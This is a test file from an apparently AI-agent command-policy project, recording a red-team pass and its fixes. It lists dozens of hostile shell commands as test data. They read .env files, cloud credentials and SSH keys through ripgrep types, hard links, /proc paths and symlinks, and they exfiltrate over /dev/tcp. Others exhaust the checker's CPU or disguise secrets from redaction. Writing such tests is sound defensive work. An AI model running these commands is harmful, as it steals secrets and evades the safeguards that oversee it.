"""Twenty-ninth red-team pass (2026-12-05), issue 10 classes 8, 9 and 10, as an attacker who
controls the agent's requests and the files in its workspace. Each finding is shown by effect
with the installed program (ripgrep 13, coreutils, git 2.39) run in a scratch workspace against
a control, then decided by the policy.

Found and closed:

* class 9, `rg -t TYPE` (a known open item of the searcher review): a type whitelists its globs
  and rg reads the hidden files they match. `rg -t yaml K` printed a hidden `.yarnrc.yml` and
  `.secrets.yaml`, `rg -t sh K` a `.env.sh`, `rg --type=config K` an `.ovh.conf`, allowed for
  the contributor and the viewer. The type's globs (rg 13's table, `--type-add`) are now the
  tree read's name filters, hidden files included, as `-g` globs were.
* class 9, git's global excludes (the other open item): rg reads `core.excludesFile` of
  `$HOME/.gitconfig` and `$HOME/.config/git/ignore`; HOME is the workspace in the sandbox's weak
  fallback, so a committed `.config/git/ignore` (or a `.gitconfig` naming any file) holding
  `!.env` made a plain `rg K` print `.env`, allowed. The policy reads those files too.
* class 8/9, hard links out of the workspace: a file in the workspace whose inode has names
  outside it (a hard link of a private file made on the host, by an archive, by a script in
  the weak fallback) was read as a workspace file: `cat notes.txt`, `diff`, `git diff
  --no-index`, the file tool all printed it, allowed (writes were already denied). Now a read
  of such a file is a read outside, unless it is a world-readable file in a vendor directory
  (uv's and pnpm's caches link there).
* class 9, ack/sift/pt option files (open item): not installed here. ack 3 reads `.ackrc` from
  the working directory up and from home (`--pager` runs a command), sift `.sift.conf`, pt
  `.ptconfig.toml`; their words alone do not say what they read: undecidable unless `ack
  --noenv` / `sift --no-conf` (pt has no such option).
* class 10, the ignore files' `!` rules: every hidden secret of a tree was matched against
  every `!` rule of every ignore file above it, with no cost counted: 200 hidden secret files
  and six 64 KiB ignore files made one `rg K` (everyday) take 12 s of CPU, past the 2 s cap.
  Each rule consulted now costs a word of the decision's budget (deny past it).
* class 9 (redaction): known secrets separated by any punctuation byte (`sed 's/./&-/g'`),
  quoted per character (`print(list(s))`), base64/base32 case-folded (`base64 | tr A-Z a-z`),
  octal bytes (`od -An -b`), `0x`-prefixed hex and decimal bytes after `,`/`;`
  were not matched; they are forms now.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import time
from pathlib import Path

import pytest

from enforcement_agent.models import ToolRequest, Verdict
from enforcement_agent.policy import Policy, shell
from enforcement_agent.redaction import Redactor
from tests.policy.bounded import cpu_seconds
from tests.policy.scratch_repo import GIT_ENV, scratch_repo
from tests.policy.verdicts import exec_verdict

CANARY = "c4n4ry29secret"
OUTSIDE = "c4n4ry29outside"
ROLES = ("contributor", "viewer")


@pytest.fixture(scope="module")
def policy(default_policy: Policy) -> Policy:
    return default_policy  # the shipped policy, compiled once per session (conftest.py)


def _env(home: Path) -> dict[str, str]:
    keep = {k: v for k, v in os.environ.items() if not k.startswith(("GIT_", "XDG_", "RIPGREP"))}
    return {**keep, **GIT_ENV, "GIT_CONFIG_GLOBAL": "/dev/null", "HOME": str(home)}


def _run(ws: Path, command: str, home: Path) -> str:
    out = subprocess.run(
        ["bash", "-c", command],
        cwd=ws,
        env=_env(home),
        capture_output=True,
        stdin=subprocess.DEVNULL,
        timeout=30,
    )
    return out.stdout.decode(errors="replace") + out.stderr.decode(errors="replace")


def _file_read(policy: Policy, ws: Path, path: str) -> Verdict:
    req = ToolRequest(tenant="acme", actor="a", role="contributor", tool="read", path=path)
    return policy.decide(req, ws).decision


# ---- class 9: rg's file types whitelist hidden files ------------------------------------------
HIDDEN_TYPED = {
    "src/.yarnrc.yml": f"npmAuthToken: {CANARY}\n",
    "src/.secrets.yaml": f"token: {CANARY}\n",
    "src/.secrets.toml": f'token = "{CANARY}"\n',
    "src/.secrets.json": f'{{"token": "{CANARY}"}}\n',
    "src/.env.sh": f"export TOKEN={CANARY}\n",
    "src/.ovh.conf": f"application_secret={CANARY}\n",
}


@pytest.fixture(scope="module")
def typed(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("rt29types")
    files = {"README.md": "r\n", "src/a.py": "match = 1\n", "src/a.yaml": "a: 1\n"}
    ws = scratch_repo(root / "ws", {**files, **HIDDEN_TYPED})
    (root / "home").mkdir()
    return ws


TYPE_READS = (
    # (command, prints the canary)
    ("rg -t yaml c4n4ry29", True),
    ("rg -tyaml c4n4ry29", True),
    ("rg --type=yaml c4n4ry29", True),
    ("rg --type yaml c4n4ry29", True),
    ("rg -t yaml c4n4ry29 src", True),
    ("rg -t yaml c4n4ry29 .", True),
    ("rg -i -t yaml C4N4RY29", True),
    ("rg -t sh c4n4ry29", True),
    ("rg -t config c4n4ry29", True),
    ("rg -t toml c4n4ry29", True),
    ("rg -t json c4n4ry29", True),
    ("rg -t py -t yaml c4n4ry29", True),
    ("rg -tpy -tsh c4n4ry29", True),
    ("rg -t all c4n4ry29", True),
    ("rg --type-add=x:include:yaml -tx c4n4ry29", True),
    ("rg --type-add=x:*.conf -tx c4n4ry29", True),
    ("rg -t py -g '*.yml' c4n4ry29", True),
    ("rg -n -t yaml c4n4ry29", True),
    ("rg --no-heading -t toml c4n4ry29 src", True),
    ("rg -C1 -t json c4n4ry29", True),
    # controls: types that match no hidden secret, excluded types
    ("rg -t py c4n4ry29", False),
    ("rg -t py match", False),
    ("rg -t md c4n4ry29", False),
    ("rg -T yaml c4n4ry29", False),
    ("rg --type-not sh c4n4ry29", False),
    ("rg -t rust c4n4ry29", False),
    ("rg c4n4ry29", False),
)


@pytest.mark.parametrize(("command", "prints"), TYPE_READS)
def test_rg_types_read_hidden_files_of_the_type(
    policy: Policy, typed: Path, command: str, prints: bool
) -> None:
    assert shutil.which("rg"), "ripgrep is installed here (Debian bookworm)"
    out = _run(typed, command, typed.parent / "home")
    assert (CANARY in out) is prints, (command, out)
    for role in ROLES:
        verdict = exec_verdict(policy, typed, command, role)[0]
        if prints:
            assert verdict is Verdict.DENY, (command, role)
        else:
            assert verdict is Verdict.ALLOW, (command, role)


def test_rg_unknown_type_is_read_as_every_name(policy: Policy, typed: Path) -> None:
    # rg 13 refuses a type it does not know; a newer rg may know it: every name may match
    assert exec_verdict(policy, typed, "rg -t nosuchtype c4n4ry29")[0] is Verdict.DENY
    assert exec_verdict(policy, typed, "rg -t yaml -l c4n4ry29")[0] is Verdict.DENY


# ---- class 9: git's global excludes file, HOME being the workspace ----------------------------
GLOBAL_IGNORES = (
    # (files, prints) — the sandbox's weak fallback runs with HOME at the workspace
    ({".config/git/ignore": "!.env\n"}, True),
    ({".config/git/ignore": "!.e*\n"}, True),
    ({".config/git/ignore": "!**/.env\n"}, True),
    ({".config/git/ignore": "*.log\n!*\n"}, True),
    ({".gitconfig": "[core]\n\texcludesFile = ~/notes.ign\n", "notes.ign": "!.env\n"}, True),
    ({".gitconfig": "[core]\n\texcludesfile = notes.ign\n", "notes.ign": "!.env\n"}, True),
    ({".gitconfig": "[Core]\n\tExcludesFile = ~/x.ign\n", "x.ign": "!.env\n"}, True),
    ({".config/git/config": "[core]\n\texcludesFile = ~/n.ign\n", "n.ign": "!.env\n"}, True),
    # controls: a rule that does not unhide .env, no rule at all
    ({".config/git/ignore": "!.env.example\n"}, False),
    ({".config/git/ignore": "*.log\n"}, False),
    ({".gitconfig": "[core]\n\texcludesFile = ~/none.ign\n"}, False),
)


@pytest.mark.parametrize(("files", "prints"), GLOBAL_IGNORES)
def test_rg_obeys_global_excludes_in_a_workspace_home(
    policy: Policy, tmp_path: Path, files: dict[str, str], prints: bool
) -> None:
    ws = scratch_repo(
        tmp_path / "ws", {"README.md": "r\n", "src/a.py": "a\n", ".env": f"T={CANARY}\n", **files}
    )
    out = _run(ws, "rg c4n4ry29", ws)
    assert (CANARY in out) is prints, (files, out)
    for role in ROLES:
        verdict = exec_verdict(policy, ws, "rg c4n4ry29", role)[0]
        assert (verdict is Verdict.DENY) is prints, (files, role)


# ---- class 9: searchers that load option files (not installed: decided by their sources) ------
OPTION_FILES = (
    ("ack x src/a.py", True),
    ("ack -i x src/a.py", True),
    ("ack-grep x src/a.py", True),
    ("ack --env x src/a.py", True),
    ("ack --noenv --env x src/a.py", True),
    ("ack --noenv --en x src/a.py", True),
    ("sift x src/a.py", True),
    ("sift -n x src/a.py", True),
    ("pt x src/a.py", True),
    ("pt --hidden x src/a.py", True),
    # controls: the option files turned off (unknown programs here: asked, not denied)
    ("ack --noenv x src/a.py", False),
    ("ack --no-env x src/a.py", False),
    ("sift --no-conf x src/a.py", False),
)


@pytest.mark.parametrize(("command", "undecidable"), OPTION_FILES)
def test_searchers_with_option_files_are_undecidable(
    policy: Policy, typed: Path, command: str, undecidable: bool
) -> None:
    verdict, rule = exec_verdict(policy, typed, command)
    if undecidable:
        assert (verdict, rule) == (Verdict.DENY, "shell.undecidable"), command
    else:
        assert verdict is Verdict.ASK, command


# ---- class 8/9: hard links out of the workspace ------------------------------------------------
@pytest.fixture(scope="module")
def linked(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("rt29links")
    outside = root / "home" / ".ssh"
    outside.mkdir(parents=True)
    (outside / "id_rsa").write_text(f"KEY {OUTSIDE}\n")
    (outside / "id_rsa").chmod(0o600)
    (root / "cache").mkdir()
    (root / "cache" / "pkg.js").write_text("module.exports = 1\n")
    (root / "cache" / "pkg.js").chmod(0o644)
    (root / "cache" / "readme.txt").write_text("public\n")
    ws = scratch_repo(root / "ws", {"README.md": "r\n", "src/a.py": "a\n", ".env": "T=1\n"})
    os.link(outside / "id_rsa", ws / "notes.txt")
    (ws / "node_modules" / "pkg").mkdir(parents=True)
    os.link(root / "cache" / "pkg.js", ws / "node_modules" / "pkg" / "index.js")
    os.link(root / "cache" / "readme.txt", ws / "readme.txt")
    os.link(ws / "README.md", ws / "README.copy.md")  # both names inside
    os.link(ws / ".env", ws / "env.txt")  # a secret's twin inside
    (ws / "box").mkdir()
    (ws / "box" / "a.txt").write_text("a\n")
    os.link(outside / "id_rsa", ws / "box" / "key.txt")
    return ws


LINK_READS = (
    "cat notes.txt",
    "head -n1 notes.txt",
    "tail notes.txt",
    "sort notes.txt",
    "rev notes.txt",
    "base64 notes.txt",
    "xxd notes.txt",
    "od -c notes.txt",
    "grep -h KEY notes.txt",
    "grep -r KEY src notes.txt",
    "cat *.txt",
    "cat < notes.txt",
    "cat ./notes.txt",
    "cat src/../notes.txt",
    "diff README.md notes.txt",
    "git diff --no-index README.md notes.txt",
    "tar cf - notes.txt | tar xOf -",
    "awk 1 notes.txt",
    "sed -n p notes.txt",
    "nl notes.txt",
    "tr a-z A-Z < notes.txt",
    "cut -c1- notes.txt",
    # tree reads and whole-directory copies meet one (then `cat box2/key.txt` had one link)
    "grep -r KEY box",
    "rg KEY box",
    "tar cf - box | tar xOf -",
    "diff -r box src",
    "cp -r box box2 && cat box2/key.txt",
    "rsync -a box/ box2/ && cat box2/key.txt",
)


@pytest.mark.parametrize("command", LINK_READS)
def test_a_hard_link_out_is_read_outside(policy: Policy, linked: Path, command: str) -> None:
    out = _run(linked, command, linked.parent / "home")
    leaked = OUTSIDE in out or OUTSIDE[::-1] in out or "KEY" in out.upper()
    assert leaked or "base64" in command or "xxd" in command or "od" in command, out
    assert exec_verdict(policy, linked, command)[0] is Verdict.DENY, command
    assert exec_verdict(policy, linked, command, "viewer")[0] is Verdict.DENY, command


LINK_CONTROLS = (
    "ls -l notes.txt",
    "ls -R box",
    "cat box/a.txt",
    "grep -r --include='*.md' KEY box",
    "stat notes.txt",
    "cat node_modules/pkg/index.js",
    "cat README.copy.md",
    "cat README.md",
)


@pytest.mark.parametrize("command", LINK_CONTROLS)
def test_link_controls_stay_allowed(policy: Policy, linked: Path, command: str) -> None:
    assert exec_verdict(policy, linked, command)[0] is Verdict.ALLOW, command


def test_hard_links_by_the_file_tool(policy: Policy, linked: Path) -> None:
    assert _file_read(policy, linked, "notes.txt") is Verdict.DENY
    assert _file_read(policy, linked, "readme.txt") is Verdict.DENY  # outside a vendor dir
    assert _file_read(policy, linked, "env.txt") is Verdict.DENY  # the secret's twin
    assert _file_read(policy, linked, "node_modules/pkg/index.js") is Verdict.ALLOW
    assert _file_read(policy, linked, "README.copy.md") is Verdict.ALLOW
    assert exec_verdict(policy, linked, "cat env.txt")[0] is Verdict.DENY


# ---- class 8: paths the kernel resolves differently (held; kept as regression tests) ----------
@pytest.fixture(scope="module")
def paths_ws(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("rt29paths")
    (root / "out").mkdir()
    (root / "out" / "sec").write_text(f"{OUTSIDE}\n")
    files = {
        "README.md": "r\n",
        "src/a.py": "a\n",
        ".env": f"T={CANARY}\n",
        ".aws/credentials": f"k={CANARY}\n",
        ".github/workflows/ci.yml": "on: push\n",
        "list0": ".env\0",
    }
    ws = scratch_repo(root / "ws", files, {"outl": str(root / "out")}, dirs=("lnkd",))
    return ws


PATH_TRICKS = (
    # the decider's /proc/self is not the command's: every /proc path is outside
    "cd .github/workflows && echo x > /proc/self/cwd/ci.yml",
    "cd .git/hooks && echo x > /proc/self/cwd/pre-commit",
    "cd .aws && cat /proc/self/cwd/credentials",
    "cd .aws; cat /proc/thread-self/cwd/credentials",
    "cd .git && echo x > /dev/fd/../cwd/hooks/pre-push",
    "cd .aws && grep -r . /proc/self/cwd",
    "cat /proc/$$/cwd/.env",
    "cat /proc/self/root$PWD/.env",
    "cat /dev/fd/3 3<.env",
    # `..` after a link out is the kernel's, not the text's
    "cat outl/../out/sec",
    "cat lnkd/../outl/sec",
    "cd outl/.. && ls",
    "pushd outl/.. && cat out/sec",
    "set -P; cd outl/..; cat out/sec",
    "set -o physical; cd outl/.. && cat out/sec",
    "CDPATH=.. cd out && cat sec",
    "cd; cat .ssh/id_rsa",
    # link followers and start points read from files
    "tar -chf - outl | tar -xOf -",
    "zip -r x.zip outl",
    "cp -rL outl x",
    "rsync -a --copy-unsafe-links src/ x/",
    "tree -l",
    "find -H outl -name x",
    "wc --files0-from=list0",
    "printf '.env\\0' > l2; wc --files0-from=l2",
    "ln -s list0 l4; du --files0-from=l4",
    "wc --files0-from=- < list0",
    # globbing options and device paths
    "shopt -s dotglob; cat *",
    "GLOBIGNORE=x; cat *",
    "shopt -s nocaseglob; cat .EN[V]",
    "cp -s .env x; cat x",
    "ln -sr .env x && cat x",
    "truncate -s0 /dev/stdout",
    "rm /dev/null",
    "tee /dev/fd/5 5>CLAUDE.md < README.md",
    "cat .env > /dev/tcp/127.0.0.1/9",
)


@pytest.mark.parametrize("command", PATH_TRICKS)
def test_path_tricks_are_denied(policy: Policy, paths_ws: Path, command: str) -> None:
    for role in ROLES:
        assert exec_verdict(policy, paths_ws, command, role)[0] is Verdict.DENY, (command, role)


def test_proc_paths_by_effect(policy: Policy, paths_ws: Path) -> None:
    # the command's /proc/self/cwd is where it cd'ed: the secret prints (the control)
    out = _run(paths_ws, "cd .aws && cat /proc/self/cwd/credentials", paths_ws.parent)
    assert CANARY in out
    out = _run(paths_ws, "cat outl/../out/sec", paths_ws.parent)
    assert OUTSIDE in out


# ---- class 8: links a patch makes (GNU patch applies git-style diffs, symlinks included) ------
LINK_PATCH = """diff --git a/lnk b/lnk
new file mode 120000
index 0000000..b8e2a2e
--- /dev/null
+++ b/lnk
@@ -0,0 +1 @@
+.env
\\ No newline at end of file
"""

PATCH_THEN_USE = (
    ("patch -p1 < p.diff && cat lnk", True),
    ("patch -p1 -i p.diff; cat lnk", True),
    ("patch -p1 --input=p.diff && head lnk", True),
    ("patch -p1 < p.diff && cp lnk x && cat x", True),
    ("patch -p1 < p.diff & cat lnk", True),
    ("patch -p1 < p.diff; cat README.md", False),
)


@pytest.mark.parametrize(("command", "prints"), PATCH_THEN_USE)
def test_a_patch_that_makes_a_link_then_a_use(
    policy: Policy, tmp_path: Path, command: str, prints: bool
) -> None:
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / ".env").write_text(f"T={CANARY}\n")
    (ws / "README.md").write_text("r\n")
    (ws / "p.diff").write_text(LINK_PATCH)
    verdict = exec_verdict(policy, ws, command)[0]  # decided before it runs
    if "&" in command and "&&" not in command:
        out = _run(ws, command + "; wait; cat lnk", tmp_path)
    else:
        out = _run(ws, command, tmp_path)
    assert (ws / "lnk").is_symlink()
    assert (CANARY in out) is prints or "&" in command, out
    assert verdict is Verdict.DENY, command


def test_a_patch_alone_stays_allowed(policy: Policy, tmp_path: Path) -> None:
    (tmp_path / "README.md").write_text("r\n")
    (tmp_path / "p.diff").write_text(LINK_PATCH)
    for command in (
        "patch -p1 < p.diff",
        "patch -p1 < p.diff && pytest -q",
        "cat README.md && patch -p1 < p.diff",
    ):
        assert exec_verdict(policy, tmp_path, command)[0] is Verdict.ALLOW, command


# ---- class 10: the cost of ignore files' `!` rules ----------------------------------------------
@pytest.fixture(scope="module")
def ignores(tmp_path_factory: pytest.TempPathFactory) -> Path:
    ws = tmp_path_factory.mktemp("rt29dos") / "ws"
    (ws / "src" / "deep").mkdir(parents=True)
    (ws / "README.md").write_text("r\n")
    for i in range(200):
        (ws / "src" / f".env.{i}").write_text(f"K={CANARY}\n")
    rules = "".join(f"!q{i}\n" for i in range(12000))[: 1 << 16]
    for d in (ws, ws / "src"):
        for name in (".gitignore", ".ignore", ".rgignore"):
            (d / name).write_text(rules)
    subprocess.run(["git", "init", "-q", str(ws)], check=True)
    (ws / ".git" / "info" / "exclude").write_text(rules)
    return ws


IGNORE_DOS = (
    # (command, denied: past the cap, or a hidden secret read; allowed: its filter keeps every
    # hidden secret out before a rule is consulted)
    ("rg c4n4ry29", True),
    ("rg c4n4ry29 src", True),
    ("rg -l x", True),
    ("rg -n x .", True),
    ("rg --files-with-matches x src", True),
    ("rg x; rg y; rg z", True),
    ("rg -i x src", True),
    ("cd src && rg x", True),
    ("rg -t py x", False),
    ("rg -g '*.py' x", False),
)


@pytest.mark.parametrize(("command", "denied"), IGNORE_DOS)
def test_ignore_rules_cost_is_capped(
    policy: Policy, ignores: Path, command: str, denied: bool
) -> None:
    t = time.process_time()
    verdict = exec_verdict(policy, ignores, command)[0]
    spent = time.process_time() - t
    assert (verdict is Verdict.DENY) is denied, command
    assert spent < 2.0, (command, spent)  # 12 s of CPU before


def test_a_few_ignore_rules_keep_rg_everyday(policy: Policy, tmp_path: Path) -> None:
    ws = scratch_repo(
        tmp_path / "ws",
        {"README.md": "r\n", "src/a.py": "a\n", ".env": "T=1\n", ".gitignore": "!.env.example\n"},
    )
    for i in range(30):
        (ws / "src" / f".env.{i}").write_text("K=1\n")
    assert exec_verdict(policy, ws, "rg x")[0] is Verdict.ALLOW


# ---- class 10: command shapes the caps must count (each under 64 KB) -----------------------------
def _loops(d: int) -> str:
    heads = " ".join(f"for v{i} in a b c d; do" for i in range(d))
    return heads + " cd x; ls y; " + " ".join("done;" for _ in range(d))[:-1]


DOS_SHAPES = {
    "nested_loops": lambda: _loops(300),
    "doubling_values": lambda: "a=xy; " + "a=$a$a; " * 4000 + "ls $a",
    "doubling_functions": lambda: (
        "f0(){ cd a; }; "
        + " ".join(f"f{i}(){{ f{i - 1}; f{i - 1}; }};" for i in range(1, 2000))
        + " f1999; ls x"
    ),
    "case_star_runs": lambda: "case x in " + "*a" * 30000 + "b) ls;; esac",
    "test_star_runs": lambda: "[[ x == " + "*a" * 30000 + "b ]] && ls",
    "parameter_star_runs": lambda: "echo ${x//" + "*a" * 30000 + "b/}",
    "rg_many_globs": lambda: "rg " + " ".join(f"-g '*a*a*a*a*{i}'" for i in range(2500)) + " K",
    "grep_many_patterns": lambda: "grep " + " ".join(f"-e p{i}" for i in range(6000)) + " -r src",
    "find_many_names": lambda: (
        "find src " + " -o ".join(f"-name 'x{i}*'" for i in range(3500)) + " -delete"
    ),
    "option_cluster": lambda: "ls -" + "l" * 60000,
    "tar_cluster": lambda: "tar -c" + "v" * 60000 + "f x.tar src",
    "many_heredocs": lambda: (
        "cat "
        + " ".join(f"<<E{i}" for i in range(3000))
        + "\n"
        + "".join(f"x\nE{i}\n" for i in range(3000))
    ),
    "continuations": lambda: "echo " + "a\\\n" * 20000,
    "nested_heredoc_substitutions": lambda: (
        "cat <<E0\n"
        + "".join(f"$(cat <<E{i}\n" for i in range(1, 600))
        + "x\n"
        + "".join(f"E{i}\n)\n" for i in reversed(range(1, 600)))
        + "E0"
    ),
    "nested_whiles": lambda: "while x; do " * 3500 + "cd y; " + "done; " * 3500 + "ls",
    "nested_ifs_with_cd": lambda: "if a; then cd x; " * 3000 + "fi; " * 3000 + "ls y",
    "subshell_pipes_with_cd": lambda: " | ".join("(cd a; ls)" for _ in range(5000)),
    "array_doubling": lambda: "a=(x y); " + "a=(${a[@]} ${a[@]}); " * 2500 + "ls ${a[@]}",
    "brace_loop_words": lambda: "for v in " + "{a,b}" * 10000 + "; do cd $v; done; ls x",
    "xargs_tower": lambda: "find . -name '*.py' | " + "xargs " * 10000 + "cat",
    "git_glob_pathspecs": lambda: (
        "git add " + " ".join(f"':(glob)**/*a*a*a*{i}'" for i in range(2000))
    ),
    "select_loops": lambda: (
        " ".join(f"select v{i} in a b; do" for i in range(2000))
        + " ls; "
        + "done; " * 1999
        + "done"
    ),
}


@pytest.mark.parametrize("name", sorted(DOS_SHAPES))
def test_command_shapes_are_decided_under_the_caps(policy: Policy, typed: Path, name: str) -> None:
    command = DOS_SHAPES[name]()
    assert len(command.encode()) <= 65536, len(command)
    shell._parse_cached.cache_clear()
    (verdict, _), spent = cpu_seconds(lambda: exec_verdict(policy, typed, command))
    assert verdict in (Verdict.ALLOW, Verdict.DENY, Verdict.ASK)
    assert spent < 1.0, (name, spent)


# ---- class 9: known secrets in more cheap forms (the redactor) ---------------------------------
SECRET = "Zq8vR3mT9wLx2KpB"


def _forms() -> dict[str, str]:
    import base64

    b = SECRET.encode()
    return {
        "dash": "-".join(SECRET),
        "dot": ".".join(SECRET),
        "pipe": "|".join(SECRET),
        "colon": ":".join(SECRET),
        "semicolon": ";".join(SECRET),
        "underscore": "_".join(SECRET),
        "slash": "/".join(SECRET),
        "two_blanks": "  ".join(SECRET),
        "reversed_dash": "-".join(SECRET[::-1]),
        "python_list": repr(list(SECRET)),
        "quoted_chars": " ".join(f"'{c}'" for c in SECRET),
        "backquoted_chars": " ".join(f"`{c}`" for c in SECRET),
        "base64_lower": base64.b64encode(b).decode().lower(),
        "base64_upper": base64.b64encode(b).decode().upper(),
        "base32_lower": base64.b32encode(b).decode().lower(),
        "decimal_commas": ",".join(str(c) for c in b),
        "decimal_semicolons": ";".join(str(c) for c in b),
        "octal_bytes": " ".join(f"{c:03o}" for c in b),
        "hex_0x_blank": " ".join(f"0x{c:02x}" for c in b),
    }


@pytest.mark.parametrize("form", sorted(_forms()))
def test_known_secret_forms(form: str) -> None:
    r = Redactor(key=b"rt29" * 8)
    r.add_known_secrets([SECRET])
    text = _forms()[form]
    out = r.redact_text(f"out: {text}\n")
    assert text not in out and SECRET not in out, out
    stream = r.stream()
    data = f"out: {text}\n".encode()
    got = b"".join(stream.feed(data[i : i + 7]) for i in range(0, len(data), 7)) + stream.flush()
    assert text.encode() not in got, got


SHELL_FORMS = (
    "sed 's/./&-/g' s.txt",
    "sed 's/./&./g' s.txt",
    "sed 's/./&|/g' s.txt",
    "base64 s.txt | tr A-Z a-z",
    "base32 s.txt | tr A-Z a-z",
    "od -An -b s.txt",
    "python3 -c 'import sys; print(list(open(sys.argv[1]).read().strip()))' s.txt",
)


@pytest.mark.parametrize("command", SHELL_FORMS)
def test_known_secret_forms_of_real_tools(tmp_path: Path, command: str) -> None:
    (tmp_path / "s.txt").write_text(SECRET + "\n")
    out = _run(tmp_path, command, tmp_path)
    r = Redactor(key=b"rt29" * 8)
    r.add_known_secrets([SECRET])
    masked = r.redact_text(out)
    assert "known-secret" in masked, (command, out, masked)
    assert SECRET not in masked and SECRET[:6] not in masked.replace("-", "")


def test_clean_text_is_unchanged() -> None:
    r = Redactor(key=b"rt29" * 8)
    r.add_known_secrets([SECRET])
    clean = "a-b-c-d-e-f-g-h-i-j-k-l-m-n-o-p\n1,2,3,4,5\n0x01 0x02 0x03\n" + "Zq8v R3mT\n"
    assert r.redact_text(clean) == clean


@pytest.mark.parametrize("program", ["cp -{} README.md x", "tar -c{}f x.tar src", "rg -{} x"])
def test_option_clusters_are_read_in_linear_time(policy: Policy, typed: Path, program: str) -> None:
    # each letter cut the rest of the cluster off: 64 KB `cp -vvv…v` took 0.37 s, 8 KB 0.02 s
    # (the collector held off and the best of three: run 105 measured 0.162 s against 0.012 for
    # `tar -cv…vf`, a ratio of 13.4, where a quiet run gives 5.3 on this tree and the last)
    def cpu(n: int) -> float:
        command = program.format("v" * n)
        shell._parse_cached.cache_clear()
        return cpu_seconds(lambda: exec_verdict(policy, typed, command))[1]

    small = min(cpu(8000) for _ in range(3))
    big = min(cpu(64000) for _ in range(3))
    assert big < 12 * max(small, 0.002), (program, small, big)


@pytest.mark.parametrize(
    ("command", "prints"),
    [
        ("rg --glob-case-insensitive -g '.ENV' c4n4ry29", True),
        ("rg --glob-case-insensitive -g '*.ENV*' c4n4ry29", True),
        ("rg -g '.ENV' --glob-case-insensitive c4n4ry29", True),
        ("rg -g '*.PY' match", False),
    ],
)
def test_rg_case_insensitive_globs(
    policy: Policy, tmp_path: Path, command: str, prints: bool
) -> None:
    ws = scratch_repo(
        tmp_path / "ws", {"README.md": "r\n", "src/a.py": "match\n", ".env": f"T={CANARY}\n"}
    )
    out = _run(ws, command, tmp_path)
    assert (CANARY in out) is prints, out
    for role in ROLES:
        verdict = exec_verdict(policy, ws, command, role)[0]
        assert (verdict is Verdict.DENY) is prints, (command, role)
